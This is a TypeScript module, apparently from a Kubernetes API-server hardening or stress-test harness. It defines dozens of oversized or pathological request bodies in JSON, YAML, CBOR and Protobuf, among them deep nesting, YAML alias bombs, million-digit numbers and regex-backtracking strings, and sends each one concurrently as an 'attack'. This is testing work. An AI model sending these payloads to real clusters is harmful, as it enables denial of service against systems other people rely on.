/** Attacks by bodies of creations: many small items, long keys, strange values, each in several encodings. */
import { type Attack, NAMESPACE } from "./attack.js";

const CORE = `/api/v1/namespaces/${NAMESPACE}`;
const THINGS = `/apis/adversary.example.com/v1/namespaces/${NAMESPACE}/things`;
const SELF_REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
const DRY = "?dryRun=All";
const WARN = "?dryRun=All&fieldValidation=Warn";
/** The limit of a body is 3 MiB. */
const NEARLY_3_MB = 3_000_000;

const meta = `"metadata":{"name":"x"}`;
const thing = `"apiVersion":"adversary.example.com/v1","kind":"Thing",${meta}`;
const items = (count: number, item: string | ((at: number) => string)) =>
  Array.from({ length: count }, (_, at) => (typeof item === "string" ? item : item(at))).join(",");
const pod = (spec: string, more = meta) =>
  `{${more},"spec":{"containers":[{"name":"c","image":"i"}],${spec}}}`;
const labels = (count: number, key: (at: number) => string, value = "v") =>
  `{"metadata":{"name":"x","labels":{${items(count, (at) => `"${key(at)}":"${value}"`)}}}}`;

/** With some fifty amounts. */
function limitOfContainers(): string {
  const amounts = (amount: string) => `{${items(10, (at) => `"example.com/r${at}":"${amount}"`)}}`;
  return `{"type":"Container","min":${amounts("1")},"max":${amounts("9")},"default":${amounts("5")},"defaultRequest":${amounts("3")},"maxLimitRequestRatio":${amounts("4")}}`;
}

interface Body {
  readonly name: string;
  readonly path: string;
  readonly body: () => string | Uint8Array;
  readonly type?: string;
  readonly isShort?: boolean;
}

const BODIES: readonly Body[] = [
  {
    name: "a key of a million letters over 20,000 equal keys",
    path: SELF_REVIEWS,
    body: () => `{"spec":{"${"k".repeat(1_000_000)}":{${items(20_000, '"a":1')}}}}`,
    isShort: true,
  },
  {
    name: "a long key over 20,000 unknown ones",
    path: `${CORE}/pods${WARN}`,
    body: () => `{${meta},"${"k".repeat(1_000_000)}":{${items(20_000, (at) => `"a${at}":1`)}}}`,
  },
  {
    name: "150,000 good labels",
    path: `${CORE}/configmaps${DRY}`,
    body: () => labels(150_000, (at) => `l${at}`),
  },
  {
    name: "59,000 ports of a Service",
    path: `${CORE}/services${DRY}`,
    body: () => `{${meta},"spec":{"ports":[${items(59_000, "{}")}]}}`,
  },
  {
    name: "19,000 unknown fields",
    path: `${CORE}/configmaps${WARN}`,
    body: () => `{${meta},${items(19_000, (at) => `"u${at}":1`)}}`,
  },
  {
    name: "900,000 ports of a Service",
    path: `${CORE}/services${DRY}`,
    body: () => `{${meta},"spec":{"ports":[${items(900_000, "{}")}]}}`,
    isShort: true,
  },
  {
    name: "240,000 ports of a Service",
    path: `${CORE}/services${DRY}`,
    body: () => `{${meta},"spec":{"ports":[${items(240_000, "{}")}]}}`,
    isShort: true,
  },
  {
    name: "19,000 ports of a Service, all good",
    path: `${CORE}/services${DRY}`,
    body: () =>
      `{${meta},"spec":{"ports":[${items(19_000, (at) => `{"name":"p${at}","port":${1 + at}}`)}]}}`,
  },
  {
    name: "a million containers",
    path: `${CORE}/pods${DRY}`,
    body: () => `{${meta},"spec":{"containers":[${items(990_000, "{}")}]}}`,
  },
  {
    name: "19,000 named containers",
    path: `${CORE}/pods${DRY}`,
    body: () =>
      `{${meta},"spec":{"containers":[${items(19_000, (at) => `{"name":"c${at}","image":"i"}`)}]}}`,
  },
  {
    name: "240,000 variables of a container",
    path: `${CORE}/pods${DRY}`,
    body: () =>
      `{${meta},"spec":{"containers":[{"name":"c","image":"i","env":[${items(240_000, "{}")}]}]}}`,
  },
  {
    name: "29,000 good variables of a container",
    path: `${CORE}/pods${DRY}`,
    body: () =>
      `{${meta},"spec":{"containers":[{"name":"c","image":"i","env":[${items(29_000, (at) => `{"name":"E${at}"}`)}]}]}}`,
  },
  {
    name: "19,000 tolerations",
    path: `${CORE}/pods${DRY}`,
    body: () =>
      pod(`"tolerations":[${items(19_000, (at) => `{"key":"k${at}","operator":"Exists"}`)}]`),
  },
  {
    name: "19,000 volumes",
    path: `${CORE}/pods${DRY}`,
    body: () => pod(`"volumes":[${items(19_000, (at) => `{"name":"v${at}","emptyDir":{}}`)}]`),
  },
  {
    name: "11,000 terms of affinity",
    path: `${CORE}/pods${DRY}`,
    body: () =>
      pod(
        `"affinity":{"podAntiAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":[${items(11_000, '{"topologyKey":"z","labelSelector":{"matchLabels":{"a":"b"}}}')}]}}`,
      ),
  },
  {
    name: "14,000 host aliases",
    path: `${CORE}/pods${DRY}`,
    body: () => pod(`"hostAliases":[${items(14_000, '{"ip":"1.2.3.4","hostnames":["a"]}')}]`),
  },
  {
    name: "9,000 mounts beside 9,000 devices of a container",
    path: `${CORE}/pods${DRY}`,
    body: () => {
      const mounts = items(9_000, (at) => `{"name":"v","mountPath":"/m${at}"}`);
      const devices = items(9_000, (at) => `{"name":"d${at}","devicePath":"/d${at}"}`);
      return `{${meta},"spec":{"volumes":[{"name":"v","emptyDir":{}}],"containers":[{"name":"c","image":"i","volumeMounts":[${mounts}],"volumeDevices":[${devices}]}]}}`;
    },
  },
  {
    name: "19,000 settings of the kernel",
    path: `${CORE}/pods${DRY}`,
    body: () =>
      pod(
        `"securityContext":{"sysctls":[${items(19_000, (at) => `{"name":"a.b${at}","value":"1"}`)}]}`,
      ),
  },
  {
    name: "29,000 scheduling gates",
    path: `${CORE}/pods${DRY}`,
    body: () => pod(`"schedulingGates":[${items(29_000, (at) => `{"name":"g${at}"}`)}]`),
    isShort: true,
  },
  {
    name: "59,000 owner references",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{"metadata":{"name":"x","ownerReferences":[${items(59_000, "{}")}]}}`,
  },
  {
    name: "11,900 good owner references",
    path: `${CORE}/configmaps${DRY}`,
    body: () =>
      `{"metadata":{"name":"x","ownerReferences":[${items(11_900, (at) => `{"apiVersion":"v1","kind":"Pod","name":"p${at}","uid":"u${at}"}`)}]}}`,
  },
  {
    name: "20,000 good labels",
    path: `${CORE}/configmaps${DRY}`,
    body: () => labels(20_000, (at) => `l${at}`),
  },
  {
    name: "20,000 bad labels",
    path: `${CORE}/configmaps${DRY}`,
    body: () => labels(20_000, (at) => `-${at}`, "-"),
  },
  {
    name: "20,000 annotations",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{"metadata":{"name":"x","annotations":{${items(20_000, (at) => `"a${at}":""`)}}}}`,
  },
  {
    name: "59,000 finalizers",
    path: `${CORE}/configmaps${DRY}`,
    body: () =>
      `{"metadata":{"name":"x","finalizers":[${items(59_000, (at) => `"e.com/f${at}"`)}]}}`,
  },
  {
    name: "39,000 long finalizers",
    path: `${CORE}/configmaps${DRY}`,
    body: () =>
      `{"metadata":{"name":"x","finalizers":[${items(39_000, (at) => `"example.com/${"f".repeat(50)}${at}"`)}]}}`,
  },
  {
    name: "a LimitRange of 1,000 limits",
    path: `${CORE}/limitranges${DRY}`,
    body: () => `{${meta},"spec":{"limits":[${items(1_000, limitOfContainers)}]}}`,
  },
  {
    name: "59,000 entries of managedFields",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{"metadata":{"name":"x","managedFields":[${items(59_000, "{}")}]}}`,
  },
  {
    name: "a ConfigMap of 20,000 keys of 100 bytes",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{${meta},"data":{${items(20_000, (at) => `"k${at}":"${"v".repeat(100)}"`)}}}`,
  },
  {
    name: "a ConfigMap of one value of 3 MB",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{${meta},"data":{"k":"${"x".repeat(NEARLY_3_MB)}"}}`,
  },
  {
    name: "a Secret whose value is no base64",
    path: `${CORE}/secrets${DRY}`,
    body: () => `{${meta},"data":{"k":"${"%".repeat(NEARLY_3_MB)}"}}`,
  },
  {
    name: "59,000 paths of an Ingress",
    path: `/apis/networking.k8s.io/v1/namespaces/${NAMESPACE}/ingresses${DRY}`,
    body: () =>
      `{${meta},"spec":{"rules":[{"host":"a.b","http":{"paths":[${items(59_000, "{}")}]}}]}}`,
  },
  {
    name: "30,000 rules of an Ingress",
    path: `/apis/networking.k8s.io/v1/namespaces/${NAMESPACE}/ingresses${DRY}`,
    body: () =>
      `{${meta},"spec":{"rules":[${items(30_000, (at) => `{"host":"h${at}.example"}`)}]}}`,
  },
  {
    name: "19,000 peers of a NetworkPolicy",
    path: `/apis/networking.k8s.io/v1/namespaces/${NAMESPACE}/networkpolicies${DRY}`,
    body: () =>
      `{${meta},"spec":{"podSelector":{},"ingress":[{"from":[${items(19_000, '{"ipBlock":{"cidr":"10.0.0.0/8"}}')}]}]}}`,
  },
  {
    name: "19,000 requirements of a Deployment's selector",
    path: `/apis/apps/v1/namespaces/${NAMESPACE}/deployments${DRY}`,
    body: () =>
      `{${meta},"spec":{"selector":{"matchExpressions":[${items(19_000, (at) => `{"key":"k${at}","operator":"Exists"}`)}]},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"i"}]}}}}`,
  },
  {
    name: "60,000 deep",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{${meta},"data":${'{"a":'.repeat(60_000)}1${"}".repeat(60_000)}}`,
  },
  {
    name: "3 MB of escapes",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{${meta},"data":{"k":"${"\\u0001".repeat(NEARLY_3_MB / 6)}"}}`,
  },
  {
    name: "a number of a million digits",
    path: `${CORE}/configmaps${DRY}`,
    body: () => `{${meta},"data":{"k":${"9".repeat(1_000_000)}}}`,
  },
  {
    name: "a number beyond a double",
    path: THINGS,
    body: () => `{${thing},"any":{"n":1e400}}`,
    isShort: true,
  },
  {
    name: "a quantity of a million digits",
    path: `${CORE}/pods${DRY}`,
    body: () => pod(`"overhead":{"cpu":"${"9".repeat(1_000_000)}"}`),
  },
  {
    name: "a long key over 20,000 values of a wrong type",
    path: THINGS + DRY,
    body: () => `{${thing},"lists":{"${"k".repeat(1_000_000)}":[${items(20_000, '"a"')}]}}`,
  },
  {
    name: "patterns that backtrack",
    path: THINGS + DRY,
    body: () => `{${thing},"words":[${items(1_000, `"${"a".repeat(99)}b"`)}]}`,
  },
  {
    name: "a set of 59,000",
    path: THINGS + DRY,
    body: () => `{${thing},"set":[${items(59_000, (at) => `"s${at}"`)}]}`,
  },
  {
    name: "a map list of 29,000",
    path: THINGS + DRY,
    body: () => `{${thing},"keyed":[${items(29_000, (at) => `{"name":"n${at}"}`)}]}`,
  },
  {
    name: "any: 59,000 values",
    path: THINGS + DRY,
    body: () => `{${thing},"any":{"a":[${items(59_000, "1")}]}}`,
    isShort: true,
  },
  {
    name: "a review with 59,000 groups",
    path: `/apis/authorization.k8s.io/v1/namespaces/${NAMESPACE}/localsubjectaccessreviews`,
    body: () =>
      `{"metadata":{"namespace":"${NAMESPACE}"},"spec":{"user":"a","groups":[${items(59_000, (at) => `"g${at}"`)}],"resourceAttributes":{"namespace":"${NAMESPACE}","verb":"get","resource":"pods"}}}`,
  },
  {
    name: "a Role with 8,000 rules",
    path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}/roles${DRY}`,
    body: () =>
      `{${meta},"rules":[${items(8_000, '{"verbs":["get"],"apiGroups":[""],"resources":["pods"]}')}]}`,
  },
];

const YAML = "application/yaml";

/** A list, a map or a string of no known length (RFC 8949, section 3.2.2). */
const unmeasured = (type: number, ...content: readonly Uint8Array[]) =>
  Buffer.concat([Buffer.of(type), ...content, Buffer.of(0xff)]);
const repeated = (bytes: readonly number[], count: number) =>
  Buffer.alloc(bytes.length * count, Buffer.from(bytes));
/** Members of four letters, each with the value. */
const members = (count: number, value: readonly number[]) =>
  Buffer.concat(
    Array.from({ length: count }, (_, at) =>
      Buffer.of(0x64, ...Buffer.from(at.toString(36).padStart(4, "0")), ...value),
    ),
  );
const MAP_HEAD = Buffer.from(
  "\x6aapiVersion\x62v1\x64kind\x69ConfigMap\x68metadata\xa1\x64name\x61x\x64data",
  "latin1",
);
/** A string or a message of Protobuf. */
function field(number: number, content: string | Uint8Array): Buffer {
  const length: number[] = [];
  let rest = Buffer.byteLength(content);
  for (; rest > 0x7f; rest >>= 7) length.push((rest & 0x7f) | 0x80);
  return Buffer.concat([Buffer.of((number << 3) | 2, ...length, rest), Buffer.from(content)]);
}

const CBOR_BODIES: readonly Pick<Body, "name" | "body" | "isShort">[] = [
  {
    name: "2,000,000 deep",
    body: () => Buffer.concat([repeated([0x81], 2_000_000), Buffer.of(0x80)]),
  },
  {
    name: "a list of 3,000,000 empty objects",
    body: () => unmeasured(0x9f, repeated([0xa0], 3_000_000)),
  },
  {
    name: "a text of 3,000,000 empty pieces",
    body: () => unmeasured(0x7f, repeated([0x60], 3_000_000)),
    isShort: true,
  },
  {
    name: "a text of 1,500,000 pieces of a letter",
    body: () => unmeasured(0x7f, repeated([0x61, 0x61], 1_500_000)),
  },
  { name: "420,000 members", body: () => unmeasured(0xbf, members(420_000, [0xf6])) },
  {
    name: "a ConfigMap of 400,000 keys",
    body: () => unmeasured(0xbf, MAP_HEAD, unmeasured(0xbf, members(400_000, [0x61, 0x76]))),
  },
  {
    name: "a ConfigMap of 19,900 keys",
    body: () =>
      unmeasured(
        0xbf,
        MAP_HEAD,
        unmeasured(0xbf, members(19_900, [0x78, 40, ...Buffer.alloc(40, "v")])),
      ),
  },
  {
    name: "3,000,000 tags",
    body: () => unmeasured(0x9f, repeated([...repeated([0xc0], 900), 0x00], 3_300)),
  },
];

const ENCODED: readonly Body[] = [
  {
    name: "yaml: 120 KB of flow sequences",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () => `metadata: {name: x}\ndata: [${"[],".repeat(40_000)}]\n`,
    isShort: true,
  },
  {
    name: "yaml: 3 MB of lines",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () =>
      `metadata: {name: x}\ndata:\n${items(150_000, (at) => `  k${at}: "v"\n`).replaceAll(",", "")}`,
  },
  {
    name: "yaml: one text of 3 MB",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () => `metadata: {name: x}\ndata:\n  k: |\n${"    line of text\n".repeat(170_000)}`,
  },
  {
    name: "yaml: aliases of aliases",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () =>
      `a0: &a0 [x,x]\n${Array.from({ length: 30 }, (_, at) => `a${at + 1}: &a${at + 1} [*a${at},*a${at}]\n`).join("")}`,
  },
  {
    name: "yaml: 50,000 deep",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () => `data: ${"[".repeat(50_000)}`,
  },
  {
    name: "yaml: 50,000 anchors",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () => Array.from({ length: 50_000 }, (_, at) => `k${at}: &a${at} v\n`).join(""),
  },
  {
    name: "yaml: 3 MB of opening quotes",
    path: `${CORE}/configmaps${DRY}`,
    type: YAML,
    body: () => `data: "${"\\\n ".repeat(900_000)}`,
  },
  ...CBOR_BODIES.map(
    ({ name, body, isShort = false }): Body => ({
      name: `cbor: ${name}`,
      path: `${CORE}/configmaps${DRY}`,
      type: "application/cbor",
      body,
      isShort,
    }),
  ),
  {
    name: "protobuf: 250,000 members of JSON in the envelope",
    path: `${CORE}/configmaps${DRY}`,
    type: "application/vnd.kubernetes.protobuf",
    body: () =>
      Buffer.concat([
        Buffer.from("k8s\0"),
        field(2, `{"data":{${items(250_000, (at) => `"k${at}":1`)}}}`),
        field(4, "application/json"),
      ]),
  },
  {
    name: "protobuf: 2,900,000 packed numbers",
    path: `${CORE}/pods${DRY}`,
    type: "application/vnd.kubernetes.protobuf",
    body: () =>
      Buffer.concat([
        Buffer.from("k8s\0"),
        // spec.securityContext.supplementalGroups
        field(2, field(2, field(14, field(4, repeated([1], 2_900_000))))),
      ]),
  },
  {
    name: "protobuf: 3 MB of empty fields",
    path: `${CORE}/configmaps${DRY}`,
    type: "application/vnd.kubernetes.protobuf",
    body: () =>
      Buffer.concat([Buffer.from("k8s\0"), Buffer.alloc(2_999_990, Buffer.from([0x12, 0x00]))]),
  },
];

const JSON_TYPE = "application/json";

export const BODY_ATTACKS: readonly Attack[] = [
  ...BODIES.map((body) => ({ ...body, name: `json: ${body.name}` })),
  ...ENCODED,
].map(({ name, path, body, type = JSON_TYPE, isShort = false }) => ({
  name,
  isShort,
  // Three together: what one costs is paid by the next as well.
  run: async (attacker) => {
    const made = body();
    await attacker.many(3, 3, () => attacker.post(path, made, type));
  },
}));

const APPLIED = `${CORE}/configmaps/x${DRY}&fieldManager=m`;

export const CBOR_APPLY_ATTACKS: readonly Attack[] = CBOR_BODIES.map(({ name, body }) => ({
  name: `apply in cbor: ${name}`,
  run: async (attacker) => {
    const made = body();
    await attacker.many(3, 3, () => attacker.patch(APPLIED, "apply-patch+cbor", made));
  },
}));
